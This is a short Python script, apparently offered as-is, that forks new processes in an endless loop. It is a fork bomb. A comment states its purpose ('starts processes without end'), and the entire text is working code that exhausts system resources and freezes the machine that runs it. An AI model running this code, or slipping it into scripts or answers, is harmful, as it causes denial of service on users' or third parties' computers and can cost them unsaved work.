# Starts processes without end.
import os

while True:
    os.fork()
